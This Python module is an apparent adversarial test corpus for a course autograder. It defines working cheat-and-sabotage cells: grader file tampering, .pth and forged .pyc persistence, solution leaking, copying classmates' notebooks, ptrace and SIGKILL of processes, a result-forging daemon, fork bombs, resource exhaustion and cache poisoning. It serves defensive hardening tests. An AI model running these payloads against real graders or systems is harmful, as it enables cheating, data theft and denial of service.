"""The adversarial corpus: what a student who wants a grade for nothing puts in a notebook.

Each entry is a cell added at the end of a released notebook (all stubs still raising), so the honest
score of the submission is 0. ``tests/test_attacks.py`` grades each one and checks that it earns
nothing, that the checkout, the environment and other students' outputs are byte-identical
afterwards, that the release graded next still scores 0, and that no process is left behind.
Every attack runs twice: at the top level while the notebook loads, and inside a graded function
(``synthetic_data`` in hw1, ``softmax`` in hw2) while a test runs.
"""
from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    name: str
    issue_item: str  # the line of the hardening issue it reproduces
    body: str  # code run as the student; CHECKOUT is the course folder's path, as a student could learn it


FIND_CHECKOUT = '''
import os, sys, glob
def _candidates():
    try:
        import d2lcourse
        yield os.path.dirname(os.path.dirname(os.path.dirname(d2lcourse.__file__)))
    except Exception:
        pass
    for pid in ("self", os.getppid(), 1):
        for what in ("cwd", "root"):
            try:
                yield os.readlink(f"/proc/{pid}/{what}")
            except OSError:
                pass
        try:
            for arg in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0"):
                yield os.path.dirname(arg.decode(errors="replace"))
        except OSError:
            pass
    yield CHECKOUT
    yield from glob.glob("/*/*/graders/..") + glob.glob("/*/graders/..") + glob.glob("/*/*/*/graders/..")
def _checkouts():
    return sorted({os.path.realpath(c) for c in _candidates() if c and os.path.isdir(os.path.join(c, "graders"))})
'''

ATTACKS = [
    Attack("takeover_rewrite_graders", "persistent takeover: append to plugin.py, rewrite a test, edit monitor.py",
           FIND_CHECKOUT + '''
for root in _checkouts():
    for path in [f"{root}/autograder/plugin.py", f"{root}/course/gradeworker/monitor.py",
                 *glob.glob(f"{root}/graders/*/test_*.py")]:
        try:
            with open(path, "a") as fh:
                fh.write("\\n# PWNED\\n")
        except OSError:
            pass
'''),
    Attack("takeover_pth_and_pyc", "persistent takeover: a .pth in site-packages and a forged __pycache__/*.pyc",
           FIND_CHECKOUT + '''
import site, importlib.util
for sp in set(sys.path):
    if sp.endswith("site-packages"):
        try:
            open(os.path.join(sp, "zz_pwned.pth"), "w").write("import os\\n")
        except OSError:
            pass
for root in _checkouts():
    for src in glob.glob(f"{root}/autograder/*.py") + glob.glob(f"{root}/graders/*/*.py"):
        pyc = importlib.util.cache_from_source(src)
        try:
            os.makedirs(os.path.dirname(pyc), exist_ok=True)
            open(pyc, "wb").write(b"forged")
        except OSError:
            pass
'''),
    Attack("read_hidden_reference", "hidden files read: solutions/<id>.py loaded by absolute path and leaked",
           FIND_CHECKOUT + '''
leaked = []
for root in _checkouts():
    for path in glob.glob(f"{root}/solutions/*.py") + glob.glob(f"{root}/graders/*/test_*.py"):
        try:
            leaked.append(open(path).read())
        except OSError:
            pass
for top in ("/work", "/root", "/home", "/tmp", "/opt"):
    for dirpath, dirs, files in os.walk(top):
        if "solutions" in dirs:
            leaked.append(dirpath)
        if len(leaked) > 50:
            break
if leaked:
    raise RuntimeError("LEAK " + "\\n".join(leaked)[:100000])
'''),
    Attack("copy_a_classmate", "other students: find a classmate's notebook and run its solution cells",
           '''
import glob, json, os
for pattern in ("/work/**/*.ipynb", "/tmp/**/*.ipynb", "/root/**/*.ipynb", "/home/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                source = "".join(cell["source"])
                if "NotImplementedError" not in source:
                    try:
                        exec(source, globals())
                    except Exception:
                        pass
'''),
    Attack("signal_the_grader", "code execution in the trusted process: ptrace it, SIGSTOP or SIGKILL it",
           '''
import os, signal, ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 4096):
    if pid == os.getpid():
        continue
    libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
'''),
    Attack("daemon_forges_results", "a double-forked setsid daemon rewrites results after grading",
           FIND_CHECKOUT + '''
import time, json
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            for root in _checkouts() + ["/tmp", os.path.expanduser("~")]:
                for path in glob.glob(f"{root}/**/result*.json", recursive=True)[:50]:
                    try:
                        open(path, "w").write(json.dumps({"score": 100}))
                    except OSError:
                        pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
'''),
    Attack("fork_bomb_and_daemons", "400 setsid processes survive grading",
           '''
import os, time
for _ in range(400):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
'''),
    Attack("memory_and_disk", "7 GiB of memory and 2.4 GB of disk taken without refusal",
           '''
import os, tempfile
hog = []
try:
    for _ in range(7 * 4):
        hog.append(bytearray(256 << 20))
except MemoryError:
    pass
for folder in (".", tempfile.gettempdir(), "/dev/shm"):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as fh:
            for _ in range(2400):
                fh.write(b"x" * (1 << 20))
    except OSError:
        pass
'''),
    Attack("network_listener", "the worker connects to a TCP listener on 127.0.0.1",
           '''
import socket
for port in (22, 80, 8888, 6379, 8265, 9000):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.5).sendall(b"exfiltrate")
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53))
except OSError:
    pass
'''),
    Attack("protocol_garbage", "hostile frames: deep nesting, a 1e999 length, extra frames, a meta tensor",
           '''
import os, stat, struct, json
def _frames():
    deep = b'{"body": ' + b"[" * 200000 + b"]" * 200000 + b', "blobs": []}'
    inf = b'{"body": null, "blobs": [1e999]}'
    meta = json.dumps({"body": {"id": 1, "ok": True, "value": {"$t": "tensor", "blob": 0, "dtype": "torch.float32",
                       "shape": [1], "device": "meta"}}, "blobs": [4]}).encode()
    extra = json.dumps({"body": {"$t": "dict", "v": [["id", 7], ["ok", True], ["value", 100]]}, "blobs": []}).encode()
    for header, blob in ((extra, b""), (extra, b""), (deep, b""), (inf, b""), (meta, b"\\0" * 4)):
        yield struct.pack(">Q", len(header)) + header + blob
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            for frame in _frames():
                os.write(fd, frame)
    except OSError:
        pass
'''),
    Attack("poison_the_fork_servers_cache", "a forged ATen operator table (no forbidden operator left to catch) "
           "and font list where the next grading's fork server reads them",
           '''
import os, glob, json
_forged = json.dumps({"torch": {}, "packets": ["add", "mm"]})
_places = {os.path.expanduser("~/.cache/autograder"), os.path.join(os.environ.get("XDG_CACHE_HOME", "/nonexistent"),
           "autograder"), "/root/.cache/autograder", *glob.glob("/home/*/.cache/autograder"), "/autograder/cache"}
try:
    import matplotlib
    _places.add(matplotlib.get_cachedir())
except Exception:
    pass
for place in _places:
    for name in ("aten-operators.json", "matplotlib-3/fontlist-v390.json"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "w") as fh:
                fh.write(_forged)
        except OSError:
            pass
'''),
]


def attack_cell(attack: Attack, checkout: str) -> str:
    """The attack at the top level of a cell (runs while the notebook loads)."""
    return f"CHECKOUT = {checkout!r}\n" + attack.body


def attack_in_function(attack: Attack, checkout: str, name: str, signature: str) -> str:
    """The attack inside a graded function (runs in a test's worker), which then raises as the stub did."""
    body = "\n".join("    " + line for line in attack_cell(attack, checkout).splitlines())
    return f"def {name}({signature}):\n{body}\n    raise NotImplementedError()\n"
